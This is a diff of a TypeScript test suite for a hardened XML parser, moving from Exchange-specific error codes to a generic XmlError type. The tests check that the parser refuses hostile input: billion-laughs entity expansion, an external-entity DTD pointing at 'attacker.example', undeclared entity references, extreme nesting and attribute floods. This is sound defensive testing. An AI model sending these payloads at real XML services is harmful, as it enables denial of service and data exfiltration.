@@ -1,5 +1,24 @@
-import { attr, child, children, EwsErrorCode, EwsResponseCode, NS, parseXml, resolveQName } from '../index';
-import { ewsErrorOf } from '../../test/soap-fixtures';
+import { attr, child, children, parseXml, resolveQName, XML_NS, XmlError, XmlErrorKind } from '../index';
+
+// Namespaces of a SOAP request, the parser's first user; any URIs would do.
+const NS = {
+  SOAP: 'http://schemas.xmlsoap.org/soap/envelope/',
+  MESSAGES: 'http://schemas.microsoft.com/exchange/services/2006/messages',
+  TYPES: 'http://schemas.microsoft.com/exchange/services/2006/types',
+  XSI: 'http://www.w3.org/2001/XMLSchema-instance',
+  XML: XML_NS.XML,
+} as const;
+
+/** Runs `fn`, which must throw an `XmlError`, and returns that error. */
+function xmlErrorOf(fn: () => unknown): XmlError {
+  try {
+    fn();
+  } catch (e) {
+    if (e instanceof XmlError) return e;
+    throw new Error(`expected an XmlError, got ${String(e)}`, { cause: e });
+  }
+  throw new Error('expected an XmlError, nothing was thrown');
+}
 
 describe('parseXml: namespaces', () => {
   it('resolves any prefix through the xmlns declarations in scope', () => {
@@ -80,10 +99,9 @@ describe('parseXml: hostile input', () => {
 
   it('refuses a billion-laughs document before any expansion, quickly', () => {
     const started = process.hrtime.bigint();
-    const err = ewsErrorOf(() => parseXml(billionLaughs));
+    const err = xmlErrorOf(() => parseXml(billionLaughs));
     const ms = Number(process.hrtime.bigint() - started) / 1e6;
-    expect(err.code).toBe(EwsErrorCode.DtdForbidden);
-    expect(err.responseCode).toBe(EwsResponseCode.ErrorSchemaValidation);
+    expect(err.kind).toBe(XmlErrorKind.DtdForbidden);
     expect(err.location).toEqual({ line: 1, position: 22 });
     expect(ms).toBeLessThan(100);
   });
@@ -95,29 +113,28 @@ describe('parseXml: hostile input', () => {
       '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><a/>',
       '<a><!ENTITY x "y"></a>',
     ]) {
-      expect(ewsErrorOf(() => parseXml(xml)).code).toBe(EwsErrorCode.DtdForbidden);
+      expect(xmlErrorOf(() => parseXml(xml)).kind).toBe(XmlErrorKind.DtdForbidden);
     }
   });
 
   it('refuses a reference to an undeclared entity instead of passing it through', () => {
-    const err = ewsErrorOf(() => parseXml('<a>&xxe;</a>'));
-    expect(err.code).toBe(EwsErrorCode.MalformedXml);
+    const err = xmlErrorOf(() => parseXml('<a>&xxe;</a>'));
+    expect(err.kind).toBe(XmlErrorKind.Malformed);
     expect(err.message).toMatch(/undeclared entity '&xxe;'/);
   });
 
   it('refuses 10,000-deep nesting without recursing', () => {
     const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
-    const err = ewsErrorOf(() => parseXml(deep));
-    expect(err.code).toBe(EwsErrorCode.TooDeep);
-    expect(err.responseCode).toBe(EwsResponseCode.ErrorSchemaValidation);
-    expect(ewsErrorOf(() => parseXml('<a>'.repeat(1_000_000))).code).toBe(EwsErrorCode.TooDeep);
+    const err = xmlErrorOf(() => parseXml(deep));
+    expect(err.kind).toBe(XmlErrorKind.TooDeep);
+    expect(xmlErrorOf(() => parseXml('<a>'.repeat(1_000_000))).kind).toBe(XmlErrorKind.TooDeep);
   });
 
   it('enforces the configured depth exactly', () => {
     const nested = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
     expect(() => parseXml(nested(64))).not.toThrow();
-    expect(ewsErrorOf(() => parseXml(nested(65))).code).toBe(EwsErrorCode.TooDeep);
-    expect(ewsErrorOf(() => parseXml(nested(4), { maxDepth: 3 })).code).toBe(EwsErrorCode.TooDeep);
+    expect(xmlErrorOf(() => parseXml(nested(65))).kind).toBe(XmlErrorKind.TooDeep);
+    expect(xmlErrorOf(() => parseXml(nested(4), { maxDepth: 3 })).kind).toBe(XmlErrorKind.TooDeep);
     let el = parseXml(nested(1000), { maxDepth: 1000 });
     let depth = 1;
     while (el.children.length > 0) [el, depth] = [el.children[0], depth + 1];
@@ -126,28 +143,26 @@ describe('parseXml: hostile input', () => {
   });
 
   it('refuses input over the byte limit, counting bytes not characters', () => {
-    expect(ewsErrorOf(() => parseXml(`<a>${'x'.repeat(100)}</a>`, { maxBytes: 100 })).code).toBe(EwsErrorCode.TooLarge);
-    expect(ewsErrorOf(() => parseXml(`<a>${'é'.repeat(45)}</a>`, { maxBytes: 90 })).code).toBe(EwsErrorCode.TooLarge);
-    expect(ewsErrorOf(() => parseXml(Buffer.alloc(101, 0x20), { maxBytes: 100 })).code).toBe(EwsErrorCode.TooLarge);
+    expect(xmlErrorOf(() => parseXml(`<a>${'x'.repeat(100)}</a>`, { maxBytes: 100 })).kind).toBe(XmlErrorKind.TooLarge);
+    expect(xmlErrorOf(() => parseXml(`<a>${'é'.repeat(45)}</a>`, { maxBytes: 90 })).kind).toBe(XmlErrorKind.TooLarge);
+    expect(xmlErrorOf(() => parseXml(Buffer.alloc(101, 0x20), { maxBytes: 100 })).kind).toBe(XmlErrorKind.TooLarge);
     expect(parseXml(`<a>${'é'.repeat(42)}</a>`, { maxBytes: 91 }).text).toHaveLength(42);
   });
 
   it('refuses too many elements', () => {
-    expect(ewsErrorOf(() => parseXml(`<a>${'<b/>'.repeat(11)}</a>`, { maxElements: 10 })).code).toBe(EwsErrorCode.TooManyElements);
+    expect(xmlErrorOf(() => parseXml(`<a>${'<b/>'.repeat(11)}</a>`, { maxElements: 10 })).kind).toBe(XmlErrorKind.TooManyElements);
   });
 });
 
 describe('parseXml: bounded work', () => {
   const attrs = (n: number, from = 0) => Array.from({ length: n }, (_, i) => ` a${from + i}="1"`).join('');
   const refusal = (xml: string, options = {}) => {
-    const err = ewsErrorOf(() => parseXml(xml, options));
-    expect(err.responseCode).toBe(EwsResponseCode.ErrorSchemaValidation);
-    return err;
+    return xmlErrorOf(() => parseXml(xml, options));
   };
 
   it('enforces the attributes per element exactly, namespace declarations included', () => {
     expect(parseXml(`<a${attrs(32)}/>`).attrs.a31).toBe('1');
-    expect(refusal(`<a${attrs(33)}/>`).code).toBe(EwsErrorCode.TooManyAttributes);
+    expect(refusal(`<a${attrs(33)}/>`).kind).toBe(XmlErrorKind.TooManyAttributes);
     expect(() => parseXml(`<a xmlns:p="urn:p"${attrs(3)}/>`, { maxAttributesPerElement: 4 })).not.toThrow();
     expect(refusal(`<a xmlns:p="urn:p"${attrs(4)}/>`, { maxAttributesPerElement: 4 }).message).toBe(
       "Element 'a' has more than 4 attributes.",
@@ -158,25 +173,25 @@ describe('parseXml: bounded work', () => {
     const doc = (perChild: number) => `<r>${Array.from({ length: 5 }, (_, i) => `<b${attrs(perChild, i * perChild)}/>`).join('')}</r>`;
     expect(() => parseXml(doc(2), { maxAttributes: 10 })).not.toThrow();
     const err = refusal(doc(3), { maxAttributes: 10 });
-    expect([err.code, err.message]).toEqual([EwsErrorCode.TooManyAttributes, 'The request has more than 10 attributes.']);
+    expect([err.kind, err.message]).toEqual([XmlErrorKind.TooManyAttributes, 'The request has more than 10 attributes.']);
     // Reported at the eleventh attribute.
     expect(err.location).toEqual({ line: 1, position: doc(3).indexOf('a10=') + 1 });
   });
 
   it('enforces the attribute value length as written, before references are expanded', () => {
     expect(parseXml(`<a v="${'x'.repeat(16 * 1024)}"/>`).attrs.v).toHaveLength(16 * 1024);
-    expect(refusal(`<a v="${'x'.repeat(16 * 1024 + 1)}"/>`).code).toBe(EwsErrorCode.TooLong);
+    expect(refusal(`<a v="${'x'.repeat(16 * 1024 + 1)}"/>`).kind).toBe(XmlErrorKind.TooLong);
     expect(() => parseXml(`<a v="&amp;"/>`, { maxAttributeLength: 5 })).not.toThrow();
-    expect(refusal(`<a v="&amp;&amp;"/>`, { maxAttributeLength: 5 }).code).toBe(EwsErrorCode.TooLong);
+    expect(refusal(`<a v="&amp;&amp;"/>`, { maxAttributeLength: 5 }).kind).toBe(XmlErrorKind.TooLong);
   });
 
   it('enforces the text of one element: its runs and CDATA sections together, children not counted', () => {
     const limit = { maxTextLength: 10 };
     expect(parseXml('<a>12345<!-- c -->12345</a>', limit).text).toBe('1234512345');
-    expect(refusal('<a>12345<!-- c -->123456</a>', limit).code).toBe(EwsErrorCode.TooLong);
+    expect(refusal('<a>12345<!-- c -->123456</a>', limit).kind).toBe(XmlErrorKind.TooLong);
     expect(refusal('<a>12345<![CDATA[123456]]></a>', limit).message).toBe("Element 'a' has more than 10 characters of text.");
     expect(parseXml('<a>1234567890<b>1234567890</b>1234567890</a>', { maxTextLength: 20 }).text).toHaveLength(20);
-    expect(refusal('<a>1234567890<b>1234567890</b>12345678901</a>', { maxTextLength: 20 }).code).toBe(EwsErrorCode.TooLong);
+    expect(refusal('<a>1234567890<b>1234567890</b>12345678901</a>', { maxTextLength: 20 }).kind).toBe(XmlErrorKind.TooLong);
   });
 
   it('enforces the text of the whole document', () => {
@@ -198,14 +213,14 @@ describe('parseXml: bounded work', () => {
   const timed = (xml: string) => {
     const body = Buffer.from(xml);
     const started = performance.now();
-    const err = ewsErrorOf(() => parseXml(body, { maxBytes: 10 * MiB }));
+    const err = xmlErrorOf(() => parseXml(body, { maxBytes: 10 * MiB }));
     return { err, ms: performance.now() - started, bytes: body.length };
   };
 
   it('refuses one element with ~1,000,000 distinct attributes (9.9 MB) in milliseconds', () => {
     const { err, ms, bytes } = timed(`<a${Array.from({ length: 1_000_000 }, (_, i) => ` a${i.toString(36)}="1"`).join('')}/>`);
     expect(bytes).toBeGreaterThan(9 * MiB);
-    expect(err.code).toBe(EwsErrorCode.TooManyAttributes);
+    expect(err.kind).toBe(XmlErrorKind.TooManyAttributes);
     expect(ms).toBeLessThan(500);
   });
 
@@ -215,13 +230,13 @@ describe('parseXml: bounded work', () => {
     );
     expect(ids.bytes).toBeGreaterThan(9 * MiB);
     // One attribute per id: the element and attribute limits (20,000 each) are met together.
-    expect([EwsErrorCode.TooManyElements, EwsErrorCode.TooManyAttributes]).toContain(ids.err.code);
+    expect([XmlErrorKind.TooManyElements, XmlErrorKind.TooManyAttributes]).toContain(ids.err.kind);
     expect(ids.ms).toBeLessThan(500);
     const elements = timed(`<a>${'<b/>'.repeat(500_000)}</a>`);
-    expect(elements.err.code).toBe(EwsErrorCode.TooManyElements);
+    expect(elements.err.kind).toBe(XmlErrorKind.TooManyElements);
     expect(elements.ms).toBeLessThan(500);
     const text = timed(`<a>${'x'.repeat(9.9 * MiB)}</a>`);
-    expect(text.err.code).toBe(EwsErrorCode.TooLong);
+    expect(text.err.kind).toBe(XmlErrorKind.TooLong);
     expect(text.ms).toBeLessThan(500);
   });
 
@@ -261,9 +276,8 @@ describe('parseXml: bounded work', () => {
     ['a "/" apart from the ">" of an empty element', '<a/ >'],
     ['a start tag cut by another', '<a x="1" <b/>'],
   ])('refuses %s as malformed', (_what, xml) => {
-    const err = ewsErrorOf(() => parseXml(xml));
-    expect(err.code).toBe(EwsErrorCode.MalformedXml);
-    expect(err.responseCode).toBe(EwsResponseCode.ErrorSchemaValidation);
+    const err = xmlErrorOf(() => parseXml(xml));
+    expect(err.kind).toBe(XmlErrorKind.Malformed);
   });
 
   it('accepts what XML allows in tags: single quotes, spaces around "=", a space before "/>", non-ASCII names, ">" and "/" in values', () => {
@@ -273,14 +287,14 @@ describe('parseXml: bounded work', () => {
   });
 
   it('reports where the document went wrong', () => {
-    expect(ewsErrorOf(() => parseXml('<a>\n  <b></c>\n</a>')).location).toEqual({ line: 2, position: 6 });
+    expect(xmlErrorOf(() => parseXml('<a>\n  <b></c>\n</a>')).location).toEqual({ line: 2, position: 6 });
   });
 
   it('refuses bytes that are not UTF-8, UTF-16 and other declared encodings', () => {
-    expect(ewsErrorOf(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]))).code).toBe(
-      EwsErrorCode.InvalidEncoding,
+    expect(xmlErrorOf(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]))).kind).toBe(
+      XmlErrorKind.InvalidEncoding,
     );
-    expect(ewsErrorOf(() => parseXml(Buffer.from('\ufeff<a/>', 'utf16le'))).code).toBe(EwsErrorCode.InvalidEncoding);
-    expect(ewsErrorOf(() => parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')).code).toBe(EwsErrorCode.InvalidEncoding);
+    expect(xmlErrorOf(() => parseXml(Buffer.from('\ufeff<a/>', 'utf16le'))).kind).toBe(XmlErrorKind.InvalidEncoding);
+    expect(xmlErrorOf(() => parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')).kind).toBe(XmlErrorKind.InvalidEncoding);
   });
 });
